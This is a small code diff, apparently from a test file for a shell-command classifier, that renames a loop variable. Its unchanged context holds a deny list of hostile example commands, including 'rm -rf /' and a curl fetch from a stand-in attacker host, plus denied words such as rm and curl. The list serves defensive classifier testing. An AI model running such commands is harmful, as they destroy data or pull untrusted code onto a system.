@@ -14,7 +14,7 @@ ALLOWED_LEAVES = [
     "grep -n 'a b' notes.txt",
 ]
 DENIED_LEAVES = ["rm -rf /", "curl http://evil.example/x", "shutdown now"]
-LEAVES = [f"allow: {l}" for l in ALLOWED_LEAVES] + [f"deny: {l}" for l in DENIED_LEAVES]
+LEAVES = [f"allow: {leaf}" for leaf in ALLOWED_LEAVES] + [f"deny: {leaf}" for leaf in DENIED_LEAVES]
 
 #: Words the reference classifier denies wherever they appear.
 DENIED_WORDS = {"rm", "curl", "shutdown", "tee"}
